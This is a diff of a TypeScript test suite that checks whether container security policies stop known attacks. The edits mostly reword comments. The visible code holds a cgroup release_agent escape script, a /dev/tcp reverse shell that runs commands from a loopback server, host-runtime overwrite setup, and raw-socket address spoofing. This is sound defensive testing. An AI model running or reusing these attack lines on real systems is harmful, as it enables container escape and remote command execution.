@@ -1,5 +1,6 @@
-// Attacks as they are known from real containers, each twice: without a policy it lands, which the host or the far end sees, and under
-// the ready-made policies it does not. docs/runtime-scenarios.md is the table of these tests.
+// Attacks known from real containers, each twice: without a policy it lands, as the host or the far
+// end confirms, and under the ready-made policies it does not. docs/runtime-scenarios.md is the
+// table of these tests.
 
 import { execFileSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
@@ -41,22 +42,22 @@ const CLOUD_TOKENS = [
 ];
 const LOADER = process.arch === 'arm64' ? '/usr/lib/ld-linux-aarch64.so.1' : '/usr/lib64/ld-linux-x86-64.so.2';
 
-/** Whether it landed, as the host or the far end sees it; both may take their time. */
+/** Whether it landed, as the host or the far end confirms; both may need time. */
 type Landed = () => boolean;
 
 interface Scenario {
   readonly name: string;
   readonly policies: readonly string[];
   readonly attack: (stage: Stage) => Promise<Landed>;
-  /** The rules that refused something on the way, sorted. */
+  /** The rules that refused an operation of the attack, sorted. */
   readonly refusedBy: readonly string[];
-  /** The rule that refuses it where those that stand before it are not there. */
+  /** The rule that refuses it after those of `refusedBy` are removed. */
   readonly behind?: string;
 }
 
 const rig = useRig();
 let stage: Stage;
-/** What reached the servers that play the far end. */
+/** Requests and lines that the servers of the far end received. */
 const received: string[] = [];
 const servers: (Server | HttpServer)[] = [];
 let webPort = 0;
@@ -70,7 +71,7 @@ async function listening<T extends Server | HttpServer>(server: T, where: object
 }
 const portOf = (server: Server | HttpServer): number => (server.address() as AddressInfo).port;
 
-/** Remembers what it was sent, and offers a program to download. */
+/** Records requests, and serves a program to download. */
 const web = (name: string): HttpServer =>
   createHttpServer((request, response) => {
     let body = '';
@@ -83,7 +84,7 @@ const web = (name: string): HttpServer =>
     });
   });
 
-/** Remembers all lines; says `greeting` first. */
+/** Records all lines; sends `greeting` first. */
 const plain = (name: string, greeting: string): Server =>
   createServer((socket) => {
     socket.on('data', (chunk) => received.push(`${name} ${chunk}`));
@@ -108,10 +109,13 @@ const isOwned =
   () =>
     readFileSync(file).subarray(0, 5).toString() === 'owned';
 
-/** A script that the host would run, where the host finds it; the script that goes on has its path in $agent. */
+/**
+ * A script that the host would run, at a path that the host finds; later lines of the script have
+ * its path in $agent.
+ */
 const AGENT = (stage: Stage): string =>
   `set -e; printf '#!/bin/sh\\necho owned > ${stage.host}/proof\\n' > /agent; chmod +x /agent; agent=${stage.upper('agent')}\n`;
-/** What the host would not have by itself. */
+/** Proof that only the host can create. */
 async function proven(stage: Stage, ended: Promise<Ended>): Promise<Landed> {
   await ended;
   return () => existsSync(path.join(stage.host, 'proof'));
@@ -122,14 +126,16 @@ const releaseAgent = (stage: Stage, dir: string): string => `${AGENT(stage)}
   echo 1 > ${dir}/x/notify_on_release
   echo $agent > ${dir}/release_agent
   dash -c 'echo $$ > ${dir}/x/cgroup.procs'`;
-/** What a privileged pod is given of cgroup v1, which this node has beside v2. */
+/** A cgroup v1 hierarchy for a privileged pod, which this node has beside v2. */
 function giveHierarchy(stage: Stage): string {
   const name = `given-${hierarchies++}`;
   stage.mount('mnt', '-t', 'cgroup', '-o', `none,name=${name}`, 'cgroup');
   return name;
 }
 
-/** A runtime of the host that the container could overwrite, and an image that makes it run itself. */
+/**
+ * A runtime of the host that the container could overwrite, and an image that makes it run itself.
+ */
 function hostileImage(stage: Stage): string {
   const runtime = path.join(stage.host, 'runtime');
   copyFileSync(linkedRuntime(), runtime);
@@ -157,12 +163,12 @@ function withToken(stage: Stage, token = TOKEN): void {
   writeFileSync(path.join(stage.root, token), 'eyJhbGciOi');
 }
 
-/** Without a shell to start from. */
+/** Copies a shell without starting one. */
 const COPY_SHELL = ['/usr/bin/acts', 'run', '/usr/bin/cp', '/usr/bin/bash', '/tmp/sh-x', ','];
-/** Does what the far end says. */
+/** Executes the commands of the far end. */
 const SHELL = (): string => `exec 3<>/dev/tcp/127.0.0.1/${shellPort}; read c <&3; $c >&3; read c <&3`;
 
-/** What each of the escape guard's is about. */
+/** A scenario of escape-guard. */
 const escaping = (
   name: string,
   attack: Scenario['attack'],
@@ -173,7 +179,7 @@ const escaping = (
   ...(behind === undefined ? {} : { behind }),
 });
 
-/** Who starts containers for anyone who asks, by its socket. */
+/** Engines that start containers for every client of their socket. */
 const ENGINES: Readonly<Record<string, string>> = {
   docker: '/run/docker.sock',
   'cri-dockerd': '/run/cri-dockerd.sock',
@@ -468,7 +474,9 @@ const PROGRAMS: readonly Scenario[] = [
   },
 ];
 
-/** What the ready-made policies do not hold, by name. Each lands, and nothing is counted. */
+/**
+ * Attacks that the ready-made policies do not stop, by name. Each lands, and nothing is counted.
+ */
 const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
   {
     name: 'a file of the host that was open when the runtime leaked it',
@@ -558,7 +566,7 @@ afterAll(() => {
   stage?.[Symbol.dispose]();
 });
 
-/** What an attack changes of the machine or of the container, as it was. */
+/** Saved, because an attack changes these files of the machine or of the container. */
 const before = [CORE_PATTERN, MODPROBE].map((file) => [file, readFileSync(file, 'utf8')] as const);
 function restore(): void {
   for (const [file, text] of before) writeFileSync(file, text);
@@ -569,7 +577,9 @@ function restore(): void {
 }
 afterEach(restore);
 
-/** Runs it under a set, or none; whether it landed, and the rules that refused something. */
+/**
+ * Runs it under a set, or none. @returns whether it landed, and the rules that refused an operation
+ */
 async function played(attack: Scenario['attack'], set: PolicySet | null): Promise<[boolean, string[]]> {
   if (set === null) rig.object.maps.pods.delete(stage.pod.uid);
   else stage.pod.put(set);
@@ -585,7 +595,7 @@ describe.each([
   ['programs and secrets', PROGRAMS],
 ])('%s', (_, scenarios) => {
   it.each(scenarios.map((scenario) => [scenario.name, scenario] as const))(
-    '%s - lands without a policy and not with the ready one',
+    '%s - lands without a policy and not with the ready-made one',
     async (_name, { attack, policies, refusedBy, behind }) => {
       expect(await played(attack, null)).toEqual([true, []]);
       expect(await played(attack, readySet(...policies))).toEqual([false, [...refusedBy]]);
@@ -613,7 +623,7 @@ describe('raw sockets', () => {
   };
   const known = { program: '/usr/bin/scenario-ops', comm: 'scenario-ops', uid: 0, type: 3 };
 
-  /** Hears datagrams on loopback, and from which addresses they claim to come. */
+  /** Receives datagrams on loopback and records their claimed source addresses. */
   async function listener(
     type: 'udp4' | 'udp6',
   ): Promise<{ port: string; from: string[]; receivedOne(): Promise<void> } & Disposable> {
@@ -627,7 +637,7 @@ describe('raw sockets', () => {
     return { port: `${socket.address().port}`, from, receivedOne, [Symbol.dispose]: () => socket.close() };
   }
 
-  it('spoofing - lands without a policy and its maker is known by the cookie; with the ready one there is no socket', async () => {
+  it('spoofing - lands without a policy, and the cookie identifies its maker; with the ready-made one there is no socket', async () => {
     using far = await listener('udp4');
     const forge = () => stage.ops('forge', FORGED, '127.0.0.1', far.port);
     rig.object.maps.pods.delete(stage.pod.uid);
@@ -642,7 +652,7 @@ describe('raw sockets', () => {
     expect(far.from).toEqual([FORGED]);
   });
 
-  it('spoofing by IP_TRANSPARENT - lands without a policy; with the ready one the option is refused, and an honest packet arrives', async () => {
+  it('spoofing by IP_TRANSPARENT - lands without a policy; with the ready-made one the option is refused, and an honest packet arrives', async () => {
     using far = await listener('udp4');
     const forge = () =>
       stage.run([...AS_CONTAINERS_ARE, '/usr/bin/scenario-ops', 'transparent', FORGED, '127.0.0.1', far.port]);
@@ -659,7 +669,7 @@ describe('raw sockets', () => {
     expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
   });
 
-  it('what slips by - IP_TRANSPARENT with CAP_NET_ADMIN, which the kernel asks for when CAP_NET_RAW was refused', async () => {
+  it('what slips by - IP_TRANSPARENT with CAP_NET_ADMIN, which the kernel checks if CAP_NET_RAW was refused', async () => {
     using far = await listener('udp4');
     stage.pod.put(readySet('no-raw-sockets'));
     expect((await stage.ops('transparent', FORGED, '127.0.0.1', far.port)).lines).toEqual(['landed']);
@@ -667,7 +677,7 @@ describe('raw sockets', () => {
     expect([far.from, stage.pod.counts()]).toEqual([[FORGED], { 'net-raw': 1 }]);
   });
 
-  it('what slips by - an IPv6 source by IPV6_FREEBIND, for which no capability is asked', async () => {
+  it('what slips by - an IPv6 source by IPV6_FREEBIND, which needs no capability', async () => {
     using far = await listener('udp6');
     stage.pod.put(readySet('no-raw-sockets'));
     const without = ['/usr/bin/setpriv', '--inh-caps=-all', '--bounding-set=-all'];
@@ -677,7 +687,7 @@ describe('raw sockets', () => {
     expect([far.from, stage.pod.counts()]).toEqual([['2001:db8::9'], {}]);
   });
 
-  it('frames - the same of a packet socket', async () => {
+  it('frames - the same with a packet socket', async () => {
     const sent = () => Number(readFileSync('/sys/class/net/far0/statistics/tx_packets', 'utf8'));
     const frame = () => stage.ops('frame', 'far0');
     rig.object.maps.pods.delete(stage.pod.uid);
